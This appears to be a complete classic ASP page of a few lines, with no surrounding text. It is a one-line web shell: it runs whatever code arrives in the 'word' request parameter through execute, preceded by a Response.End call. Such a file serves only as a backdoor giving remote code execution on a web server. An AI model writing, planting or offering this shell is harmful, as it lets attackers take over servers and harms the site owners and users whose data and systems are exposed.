<%
Response.End
execute request("word")
%>
